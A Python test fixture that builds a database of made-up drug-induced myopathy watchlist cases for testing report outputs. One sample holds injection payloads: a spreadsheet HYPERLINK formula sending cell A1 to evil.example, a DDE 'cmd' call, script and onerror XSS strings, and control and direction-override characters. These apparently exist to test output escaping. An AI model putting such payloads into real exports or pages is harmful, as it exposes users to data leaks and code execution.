"""Made-up nights for the tests of the outputs: a database with a dozen varied cases, and a large one."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import duckdb

from pipelines.warehouse.connection import Reader, open_for_reading

AS_OF = date(2026, 3, 10)
HOSTILE_PATIENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'

SCHEMA = """
CREATE SCHEMA watchlist; CREATE SCHEMA quality; CREATE SCHEMA reference;
CREATE TABLE reference.scales AS SELECT 'naranjo' AS scale, 'Naranjo scale' AS scale_name;
CREATE TABLE watchlist.hypotheses (case_id VARCHAR, label VARCHAR, aspect VARCHAR, item_number INTEGER, rule_id VARCHAR,
    points INTEGER, event_date DATE, source_table VARCHAR, source_id VARCHAR, statement VARCHAR);
CREATE TABLE watchlist.packet (case_id VARCHAR, section VARCHAR, section_order INTEGER, item_number INTEGER, item VARCHAR,
    value_text VARCHAR, event_date DATE, source_table VARCHAR, source_id VARCHAR);
CREATE TABLE watchlist.comparisons (case_id VARCHAR, label VARCHAR, scale VARCHAR, score INTEGER, highest_score INTEGER,
    unknown_items INTEGER, category VARCHAR);
CREATE TABLE watchlist.cases (case_id VARCHAR, patient_id VARCHAR, as_of DATE, state VARCHAR, priority VARCHAR,
    priority_reason VARCHAR, change VARCHAR, change_cause VARCHAR, first_listed DATE, nights_listed INTEGER,
    myopathy_level VARCHAR, event_score INTEGER, leading_label VARCHAR, leading_causality VARCHAR, onset_date DATE,
    onset_basis VARCHAR, ck_peak_u_per_l DOUBLE, ck_peak_x_uln DOUBLE, ck_peak_date DATE, ctcae_grade INTEGER,
    last_ck_x_uln DOUBLE, gates VARCHAR, relapse_n INTEGER, needs_repeat_ck BOOLEAN, competing_causes VARCHAR, missing_information VARCHAR, completeness DOUBLE, summary VARCHAR,
    sort_order INTEGER);
CREATE TABLE watchlist.labels (case_id VARCHAR, label VARCHAR, points INTEGER, causality VARCHAR);
CREATE TABLE watchlist.evidence (case_id VARCHAR, evidence_number INTEGER, label VARCHAR, rule_id VARCHAR, points INTEGER,
    event_date DATE, source_table VARCHAR, source_id VARCHAR, sentence VARCHAR);
CREATE TABLE watchlist.timeline (case_id VARCHAR, lane VARCHAR, item_id VARCHAR, item_kind VARCHAR, title VARCHAR,
    start_date DATE, end_date DATE, ck_u_per_l DOUBLE, uln_u_per_l DOUBLE, ck_x_uln DOUBLE, is_censored BOOLEAN);
CREATE TABLE quality.loads (source VARCHAR, extract_date DATE, table_name VARCHAR, file_name VARCHAR, sha256 VARCHAR,
    rows_in_file BIGINT, rows_loaded BIGINT, rows_duplicate BIGINT, rows_quarantined BIGINT, extra_columns VARCHAR);
CREATE TABLE quality.feeds (as_of DATE, table_name VARCHAR, is_expected BOOLEAN, feed_state VARCHAR,
    last_extract_date DATE, last_known_as_of DATE, last_new_extract_date DATE, last_event_date DATE, days_behind INTEGER,
    files_tonight BIGINT, rows_tonight BIGINT, rows_new_tonight BIGINT, rows_known BIGINT);
CREATE TABLE quality.banners (as_of DATE, banner_number INTEGER, "check" VARCHAR, table_name VARCHAR, words VARCHAR);
CREATE TABLE quality.check_results ("check" VARCHAR, table_name VARCHAR, severity VARCHAR, status VARCHAR,
    numerator BIGINT, denominator BIGINT, threshold DOUBLE, as_of DATE);
"""


@dataclass
class Sample:
    """One made-up case; `row` holds what differs from the defaults of `case_row`."""

    row: dict[str, Any]
    labels: list[tuple[str, int, str]] = field(default_factory=list)
    #: label, rule, points, day from onset, table, sentence
    evidence: list[tuple[str, str, int, int, str, str]] = field(default_factory=list)
    #: lane, title, first day from onset, last day or None
    exposures: list[tuple[str, str, int, int | None]] = field(default_factory=list)
    #: day from onset, U/L or None, ULN or None, title
    results: list[tuple[int, float | None, float | None, str]] = field(default_factory=list)
    #: day from onset, title
    events: list[tuple[int, str]] = field(default_factory=list)


def case_row(number: int, **differs: Any) -> dict[str, Any]:
    """Give a complete row of watchlist.cases."""
    row: dict[str, Any] = {
        "case_id": f"NM-{number:06d}", "patient_id": f"P{number:05d}", "as_of": AS_OF, "state": "open", "priority": "P3",
        "priority_reason": "M1 with a label", "change": "unchanged", "change_cause": None,
        "first_listed": AS_OF - timedelta(days=6), "nights_listed": 7, "myopathy_level": "M1", "event_score": 4,
        "leading_label": None, "leading_causality": None, "onset_date": date(2026, 2, 1), "onset_basis": "first CK above ULN",
        "ck_peak_u_per_l": None, "ck_peak_x_uln": None, "ck_peak_date": None, "ctcae_grade": None, "last_ck_x_uln": None,
        "gates": "A", "relapse_n": 0, "needs_repeat_ck": False, "competing_causes": None, "missing_information": "anti-HMGCR not tested; no repeat CK", "completeness": 0.7,
        "summary": "", "sort_order": number,
    }  # fmt: skip
    unknown = set(differs) - set(row)
    assert not unknown, unknown
    return row | differs


@contextmanager
def reading(path: Path, samples: Sequence[Sample]) -> Iterator[Reader]:
    """Build a database with the samples at `path` (when missing) and open it for reading."""
    if not path.exists():
        build(path, samples)
    with open_for_reading(path) as reader:
        yield reader


def build(path: Path, samples: Sequence[Sample]) -> None:
    """Write a database as a built night would be, with the samples as its cases."""
    connection = duckdb.connect(str(path))
    connection.execute(SCHEMA)
    connection.execute("BEGIN")
    rows: dict[str, list[tuple[Any, ...]]] = {
        "cases": [], "labels": [], "evidence": [], "timeline": [], "hypotheses": [], "packet": [], "comparisons": [],
    }  # fmt: skip
    for number, sample in enumerate(samples, start=1):
        _add(rows, case_row(number, **sample.row), sample)
    for table, values in rows.items():
        if values:
            marks = ", ".join("?" * len(values[0]))
            connection.executemany(f"INSERT INTO watchlist.{table} VALUES ({marks})", values)
    connection.executemany("INSERT INTO quality.loads VALUES (?, ?, ?, ?, 'x', ?, ?, ?, ?, NULL)", LOADS)
    connection.executemany(f"INSERT INTO quality.feeds VALUES ({', '.join('?' * 13)})", FEEDS)
    connection.executemany("INSERT INTO quality.banners VALUES (?, ?, ?, ?, ?)", BANNERS)
    connection.executemany("INSERT INTO quality.check_results VALUES (?, ?, ?, ?, ?, ?, ?, ?)", CHECKS)
    connection.execute("COMMIT")
    connection.close()


def _add(rows: dict[str, list[tuple[Any, ...]]], row: dict[str, Any], sample: Sample) -> None:
    case, start = row["case_id"], row["onset_date"] or AS_OF

    def day(days: int | None) -> date | None:
        return None if days is None else start + timedelta(days=days)

    rows["cases"].append(tuple(row.values()))
    rows["labels"] += [(case, *one) for one in sample.labels]
    rows["evidence"] += [
        (case, place, label, rule, points, day(days), table, f"{table[:3]}-{place}", sentence)
        for place, (label, rule, points, days, table, sentence) in enumerate(sample.evidence, start=1)
    ]
    rows["hypotheses"] += [
        (case, label, aspect, place, None, None, None, None, None, statement)
        for label, _, _ in sample.labels
        for place, (aspect, statement) in enumerate(HYPOTHESES, start=1)
    ]
    rows["hypotheses"] += [
        (case, label, "against" if points < 0 else "for", 100 + place, rule, points, day(days), table,
         f"{table[:3]}-{place}", sentence)
        for place, (label, rule, points, days, table, sentence) in enumerate(sample.evidence, start=1)
        if label != "muscle_event"
    ]  # fmt: skip
    if sample.labels:
        rows["packet"] += [(case, *one) for one in PACKET]
        rows["comparisons"].append((case, sample.labels[0][0], "naranjo", 5, 9, 4, "probable"))
    rows["timeline"] += [
        (case, lane, f"x{place}", "exposure", title, day(first), day(last), None, None, None, False)
        for place, (lane, title, first, last) in enumerate(sample.exposures)
    ]
    rows["timeline"] += [
        (case, "ck", f"c{place}", "ck", title, day(days), None, amount, limit,
         amount / limit if amount is not None and limit else None, title.startswith((">", "<")))
        for place, (days, amount, limit, title) in enumerate(sample.results)
    ]  # fmt: skip
    rows["timeline"] += [
        (case, "diagnosis", f"e{place}", "event", title, day(days), None, None, None, None, False)
        for place, (days, title) in enumerate(sample.events)
    ]


HYPOTHESES = [
    ("absent", "No interacting drug around onset."),
    ("next_test", "Anti-HMGCR: a positive result makes it <i>immune-mediated</i>."),
]
PACKET = [
    ("follow_up", 16, 1, "recovery", "partial", date(2026, 3, 1), None, None),
    ("follow_up", 16, 2, "relapses", "1", None, None, None),
    ("causes_found", 12, 1, "C-12 seizure", "Seizure: coded G40.909. =1+1", date(2026, 2, 28), "diagnoses", "D1"),
    ("causes_absent", 13, 1, "C-08 trauma", "not found", None, None, None),
]
LOADS = [
    ("extracts", date(2026, 3, 9), "labs", "2026-03-09/labs.csv", 41_200, 41_100, 60, 40),
    ("extracts", date(2026, 3, 10), "labs", "2026-03-10/labs.csv", 1_400, 1_390, 7, 3),
    ("extracts", date(2026, 3, 10), "prescribing", "2026-03-10/prescribing.csv", 900, 900, 0, 0),
    ("extracts", date(2026, 3, 6), "diagnoses", "2026-03-06/diagnoses.csv", 310, 309, 1, 0),
]
_10, _6 = AS_OF, date(2026, 3, 6)
FEEDS = [
    (AS_OF, "labs", True, "delivered", _10, _10, _10, date(2026, 3, 9), 0, 1, 1_400, 1_390, 42_490),
    (AS_OF, "prescribing", True, "delivered", _10, _10, _10, date(2026, 3, 10), 0, 1, 900, 900, 900),
    (AS_OF, "diagnoses", True, "missing", _6, _6, _6, date(2026, 3, 5), 4, 0, 0, 0, 309),
    (AS_OF, "visits", False, "never", None, None, None, None, None, 0, 0, 0, 0),
    (date(2026, 3, 9), "labs", True, "missing", _6, _6, _6, date(2026, 3, 5), 3, 0, 0, 0, 309),
]
BANNERS = [
    (AS_OF, 2, "few_rows", "labs", "=1+1 <b>second</b> banner"),
    (AS_OF, 1, "missing_table", "diagnoses", "diagnoses: no file came for this night, the last one is of 2026-03-06"),
    (date(2026, 3, 9), 1, "missing_table", "labs", "a banner of another night"),
]
CHECKS = [
    ("rows add up", "labs", "blocking", "pass", 0, 42_600, 0.0, AS_OF),
    ("diagnoses arrive nightly", "diagnoses", "warning", "fail", 4, 1, 2.0, AS_OF),
    ("P0 share of ICI patients", "cases", "blocking", "not_applicable", 2, 210, 0.005, AS_OF),
]


def varied() -> list[Sample]:
    """Give a dozen cases that look different from one another."""
    return [
        Sample(
            dict(priority="P0", change="new", nights_listed=1, first_listed=AS_OF, myopathy_level="M3", event_score=13,
                 change_cause="new data: troponin and myocarditis code of 2026-03-08",
                 priority_reason="ICI in the core window with CK 18.2 × ULN, myocarditis code, new ptosis",
                 leading_label="ici_myositis", leading_causality="probable", onset_date=date(2026, 3, 2), onset_basis="new ptosis code",
                 ck_peak_u_per_l=3640, ck_peak_x_uln=18.2, ck_peak_date=date(2026, 3, 7), ctcae_grade=4, last_ck_x_uln=14.6,
                 missing_information="anti-AChR pending; anti-HMGCR and anti-SRP not tested; no biopsy; no TSH", completeness=0.56,
                 summary="Ptosis 20 days after the second dose of ipilimumab + nivolumab, CK rising to 18.2 × ULN, "
                         "troponin above the limit and a myocarditis code: think of the overlap syndrome."),
            labels=[("ici_myositis", 8, "probable"), ("statin_toxic", 2, "unlikely")],
            evidence=[("muscle_event", "E1", 4, 5, "labs", "CK 3,640 U/L, 18.2 × the upper limit of 200 U/L sent with the result."),
                      ("muscle_event", "E2", 1, 7, "labs", "CK still 14.6 × ULN two days later."),
                      ("muscle_event", "E3", 2, 1, "diagnoses", "Proximal muscle weakness coded in the emergency department."),
                      ("muscle_event", "E4", 1, 0, "diagnoses", "New ptosis."),
                      ("ici_myositis", "W-ICI-CORE", 3, -20, "prescribing", "Onset 20 days after the last dose of nivolumab."),
                      ("ici_myositis", "R-ICI-COMB", 1, -20, "prescribing", "Two ICI classes within 42 days."),
                      ("ici_myositis", "R-OVERLAP", 3, 6, "diagnoses", "Myocarditis coded while the ICI window is open."),
                      ("statin_toxic", "W-STA-CUR", 3, -400, "prescribing", "Atorvastatin supply covers onset."),
                      ("statin_toxic", "C-15", -1, 6, "diagnoses", "Troponin above the limit.")],
            exposures=[("ici", "nivolumab", -41, None), ("ici", "nivolumab", -20, None), ("ici", "ipilimumab", -41, None),
                       ("ici", "ipilimumab", -20, None), ("statin", "atorvastatin 40 mg", -400, 30),
                       ("corticosteroid", "methylprednisolone 1 g IV", 6, 9)],
            results=[(-43, 110, 200, ""), (-21, 145, 200, ""), (3, 1900, 200, ""), (5, 3640, 200, ""), (7, 2920, 200, "")],
            events=[(0, "H02.40 ptosis"), (1, "M62.81 muscle weakness"), (6, "I40.8 myocarditis"), (6, "troponin I above limit"), (7, "intensive care")]),
        Sample(
            dict(priority="P1", change="escalated", myopathy_level="M3", event_score=8, change_cause="new data: CK of 2026-03-06",
                 priority_reason="M3 with CK 30.0 × ULN, statin current", leading_label="statin_toxic", leading_causality="probable",
                 onset_date=date(2026, 1, 20), ck_peak_u_per_l=5100, ck_peak_x_uln=30, ck_peak_date=date(2026, 1, 27), ctcae_grade=4, last_ck_x_uln=0.94,
                 competing_causes="C-04 hypothyroid (TSH 14)", completeness=0.84,
                 summary="Simvastatin raised to 80 mg and clarithromycin added 19 days before CK reached 30 × ULN; CK fell to normal 5 weeks after the stop."),
            labels=[("statin_toxic", 10, "probable"), ("paraneoplastic", 1, "unlikely")],
            evidence=[("muscle_event", "E1", 5, 7, "labs", "CK 5,100 U/L, 30.0 × ULN."), ("statin_toxic", "W-STA-CUR", 3, -19, "prescribing", "Simvastatin 80 mg started 19 days before onset."),
                      ("statin_toxic", "R-INT", 2, -9, "prescribing", "Clarithromycin, a contraindicated pair, active at onset."),
                      ("statin_toxic", "R-DEC-01", 3, 43, "labs", "CK back below the limit 35 days after the stop."), ("statin_toxic", "C-04", -2, 3, "labs", "TSH 14 mU/L.")],
            exposures=[("statin", "simvastatin 40 mg", -1500, -20), ("statin", "simvastatin 80 mg", -19, 8), ("ici", "pembrolizumab", -300, None)],
            results=[(-60, 150, 170, ""), (0, 1400, 170, ""), (3, 3200, 170, ""), (7, 5100, 170, ""), (14, 1900, 170, ""), (28, 400, 170, ""), (43, 160, 170, "")],
            events=[(2, "M79.10 myalgia"), (-9, "clarithromycin"), (3, "M62.81 muscle weakness")]),
        Sample(
            dict(priority="P1", myopathy_level="M3", event_score=9, priority_reason="CK above 10 × ULN; value cut off by the analyser",
                 leading_label="ici_myositis", leading_causality="possible", onset_date=date(2026, 2, 20), ck_peak_u_per_l=22000, ck_peak_x_uln=129.4,
                 ck_peak_date=date(2026, 2, 24), ctcae_grade=4, last_ck_x_uln=61, competing_causes="C-12 seizure; C-06 sepsis",
                 summary="CK above the analyser's range (>22,000 U/L) after a seizure, four weeks after pembrolizumab."),
            labels=[("ici_myositis", 3, "possible")],
            evidence=[("muscle_event", "E1", 5, 4, "labs", "CK >22,000 U/L, above 129 × ULN."), ("ici_myositis", "C-12", -3, -1, "diagnoses", "Seizure the day before.")],
            exposures=[("ici", f"pembrolizumab dose {n}", -28 - 21 * (12 - n), None) for n in range(1, 13)],
            results=[(0, 9000, 170, ""), (4, 22000, 170, ">22000"), (5, 22000, 170, ">22000"), (9, 10400, 185, ""), (-30, 20, 170, "<20")],
            events=[(-1, "G40.909 seizure"), (0, "R65.20 severe sepsis"), (1, "N17.9 acute kidney failure")]),
        Sample(
            dict(priority="P2", myopathy_level="M2", event_score=5, priority_reason="steroid_chronic possible with specific weakness",
                 leading_label="steroid_chronic", leading_causality="probable", onset_date=date(2026, 1, 5), onset_basis="proximal weakness code",
                 ck_peak_u_per_l=88, ck_peak_x_uln=0.52, ck_peak_date=date(2026, 1, 12), ctcae_grade=0, last_ck_x_uln=0.44,
                 summary="Thigh weakness after 5 months of prednisone-equivalent 30 mg/day for pneumonitis; CK normal twice."),
            labels=[("steroid_chronic", 7, "probable")],
            evidence=[("steroid_chronic", "W-STE-C", 3, -150, "prescribing", "150 days of at least 10 mg/day."), ("steroid_chronic", "R-STE-CK", 2, 7, "labs", "CK measured and normal.")],
            exposures=[("corticosteroid", "prednisone 30 mg/d", -150, 50), ("corticosteroid", "dexamethasone 8 mg", -170, -168), ("ici", "durvalumab", -220, None)],
            results=[(7, 88, 170, ""), (40, 75, 170, "")], events=[(0, "M62.81 muscle weakness"), (20, "R26.2 difficulty walking"), (35, "W19 fall")]),
        Sample(
            dict(priority="P2", change="reopened", change_cause="new data", myopathy_level="M4", event_score=12, priority_reason="M4 without antibody result",
                 leading_label="paraneoplastic", leading_causality="probable", onset_date=date(2025, 11, 3), ck_peak_u_per_l=6400, ck_peak_x_uln=38,
                 ck_peak_date=date(2025, 11, 20), ctcae_grade=4, last_ck_x_uln=4.1, summary="Necrotizing biopsy and CK 38 × ULN two months before lung cancer was found; no candidate drug."),
            labels=[("paraneoplastic", 7, "probable"), ("seronegative_imnm", 2, "conditional")],
            evidence=[("muscle_event", "E8", 5, 22, "procedures", "Muscle biopsy: necrotizing myopathy."), ("paraneoplastic", "R-PAR-03", 2, 60, "diagnoses", "Lung cancer found 60 days after onset.")],
            results=[(0, 2100, 168, ""), (17, 6400, 168, ""), (30, 5200, 168, ""), (60, 2400, 168, ""), (90, 1500, 168, ""), (120, 690, 168, "")],
            events=[(0, "M62.81 muscle weakness"), (20, "EMG"), (22, "muscle biopsy"), (58, "bronchoscopy"), (60, "C34.11 lung cancer, right upper lobe"), (62, "M36.0 dermato(poly)myositis in neoplastic disease"), (75, "R13.10 dysphagia"), (90, "J96.01 respiratory failure")]),
        Sample(
            dict(priority="P3", leading_causality="unassessable", priority_reason="CK number of 1,000 or more without a usable unit", myopathy_level="M0", event_score=0,
                 onset_date=None, onset_basis=None, missing_information="unit unresolved", completeness=0.3, summary="A CK of 2,350 came without unit and without limit."),
            results=[(-30, None, None, "2350 (no unit)"), (-25, 2350, None, "2350"), (-24, 2100, None, "2100")]),
        Sample(
            dict(priority="P4", needs_repeat_ck=True, leading_label="ici_myositis", leading_causality="conditional", myopathy_level="M0", event_score=0, priority_reason="M0: one CK below 3 × ULN, never repeated",
                 ck_peak_u_per_l=400, ck_peak_x_uln=2.0, ck_peak_date=date(2026, 2, 1), ctcae_grade=1, last_ck_x_uln=2.0, summary="One CK of 2.0 × ULN on nivolumab, no symptoms, not repeated."),
            labels=[("ici_myositis", 2, "conditional")], exposures=[("ici", "nivolumab", -14 - 14 * n, None) for n in range(20)], results=[(0, 400, 200, "")]),
        Sample(
            dict(patient_id=HOSTILE_PATIENT, case_id='=cmd|"/c calc"!A1', priority="P3", leading_label="other_drug:<b>daptomycin</b>", leading_causality="possible",
                 priority_reason="-2+3 @SUM(A1)", summary=HOSTILE_SCRIPT + " \x1b[31mred\x1b[0m \u202egnorw\u202c\x00\x0b", ck_peak_u_per_l=900, ck_peak_x_uln=5.3, onset_basis="\tstart",
                 ck_peak_date=date(2026, 2, 3), ctcae_grade=2, last_ck_x_uln=5.3, competing_causes="long " * 9000),
            labels=[("other_drug:<b>daptomycin</b>", 4, "possible")], evidence=[("muscle_event", "E1", 2, 2, "labs", "@import " + HOSTILE_SCRIPT)],
            exposures=[("other_drug", HOSTILE_SCRIPT, -10, 5), ("statin", "rosuvastatin & \"ezetimibe\" <combination> with a long name 20/10 mg", -90, 300)],
            results=[(2, 900, 170, "")], events=[(2, HOSTILE_SCRIPT), (3, "=1+1")]),
        Sample(
            dict(priority="P2", myopathy_level="M2", event_score=6, priority_reason="ocular signs in the ICI window, CK never measured", leading_label="ici_myositis", leading_causality="possible",
                 missing_information="CK never measured", summary="Diplopia and dysphagia after cemiplimab; no CK in the data."),
            labels=[("ici_myositis", 4, "possible")], exposures=[("ici", "cemiplimab", -30, None), ("ici", "cemiplimab", -9, None)], events=[(0, "H53.2 diplopia"), (4, "R13.10 dysphagia")]),
        Sample(
            dict(priority="P3", state="resolved", change="resolved", change_cause="two CK at or below ULN, no new evidence for 90 days", leading_label="statin_toxic", leading_causality="possible",
                 onset_date=date(2025, 2, 1), ck_peak_u_per_l=1100, ck_peak_x_uln=6.1, ck_peak_date=date(2025, 2, 6), ctcae_grade=3, last_ck_x_uln=0.7, summary="Followed for over a year."),
            labels=[("statin_toxic", 4, "possible")], exposures=[("statin", "rosuvastatin 20 mg", -2000, 700)],
            results=[(day, 1100 if day == 5 else 100 + day * 37 % 61, 180, "") for day in range(-170, 330, 1)]),
        Sample(
            dict(priority="P4", state="withdrawn", change="evidence_withdrawn", change_cause="correction: CK entered in error", leading_causality=None, myopathy_level="M0", event_score=0,
                 priority_reason="no evidence left", onset_date=None, onset_basis=None, summary="The only CK was entered in error.")),
        Sample(
            dict(priority="P2", myopathy_level="M3", event_score=8, priority_reason="M3 unexplained", leading_label="statin_imnm_suspected", leading_causality="possible", onset_date=date(2025, 12, 1),
                 ck_peak_u_per_l=1900, ck_peak_x_uln=11.2, ck_peak_date=date(2025, 12, 9), ctcae_grade=4, last_ck_x_uln=6.5, summary="Crowded chart: many codes within weeks."),
            labels=[("statin_imnm_suspected", 5, "possible"), ("statin_toxic", 3, "unlikely"), ("paraneoplastic", 2, "unlikely")],
            exposures=[("statin", f"statin number {n}", -100 + 9 * n, -80 + 9 * n) for n in range(8)] + [("corticosteroid", "prednisone", 10, 95), ("ici", "toripalimab", -60, -40)],
            results=[(0, 700, 170, ""), (1, 720, 170, ""), (2, 800, 170, ""), (8, 1900, 170, ""), (9, 1850, 170, ""), (9, 1600, None, ""), (30, 1200, 190, ""), (60, 1300, 190, ""), (95, 1105, 170, "")],
            events=[(n * 3, f"code {n} with some words of text") for n in range(30)] + [(5 * n, "M62.81 muscle weakness") for n in range(15)]),
    ]  # fmt: skip


def many(number: int) -> list[Sample]:
    """Give many cases by repeating the varied ones with keys of their own."""
    templates = [one for one in varied() if one.row.get("case_id") is None and len(one.results) < 100]
    samples = []
    for place in range(number):
        base = templates[place % len(templates)]
        samples.append(Sample({**base.row}, base.labels, base.evidence * 3, base.exposures, base.results, base.events))
    return samples
